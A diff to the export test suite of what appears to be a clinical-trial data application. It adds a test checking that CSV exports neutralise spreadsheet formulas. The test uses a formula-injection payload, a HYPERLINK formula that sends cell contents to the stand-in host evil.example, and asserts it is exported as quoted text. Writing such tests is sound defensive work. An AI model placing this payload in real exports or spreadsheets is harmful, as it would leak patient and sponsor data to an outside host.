@@ -17,6 +17,8 @@ from exports.models import ExportJob
 from exports.tasks import expire_exports, run_export
 from patients.models import Patient, Visit
 from patients.services import patient_update
+from patients.services.safety import adverse_event_record
+from patients.services.visits import patient_local_today
 from sites.models import Membership
 from sites.roles import Role
 
@@ -389,3 +391,30 @@ def test_coordinator_may_not_export_and_nothing_is_written(
     assert not ExportJob.objects.exists()
     assert not AccessLog.objects.filter(event=AccessLog.Event.EXPORT).exists()
     assert not (media / "exports").exists()
+
+
+def test_csv_bundle_neutralises_formulas(
+    trial, clinical, patient_a, coordinator_site_a, lead_investigator, export_now
+):
+    """A coordinator's adverse-event term ``=HYPERLINK(...)`` reaches the sponsor's
+    spreadsheet as text; numbers (a lesion's 32.0 mm) stay numbers."""
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
+    adverse_event_record(
+        patient=patient_a,
+        acting_user=coordinator_site_a,
+        term=payload,
+        grade=1,
+        serious=False,
+        serious_criteria=[],
+        onset_date=patient_local_today(patient_a) - datetime.timedelta(days=2),
+        resolution_date=None,
+        outcome="not_recovered",
+        action_taken="none",
+        causality=dict.fromkeys(
+            {c.intervention_id for c in clinical["ae"].causality.all()}, "unlikely"
+        ),
+    )
+    files = read_bundle(export_now(trial, lead_investigator, "csv"))
+    terms = sorted(r["term"] for r in files["adverse_events.csv"])
+    assert terms == ["'" + payload, "Hypertension"]
+    assert files["lesions.csv"][0]["baseline_mm"] == "32.0"
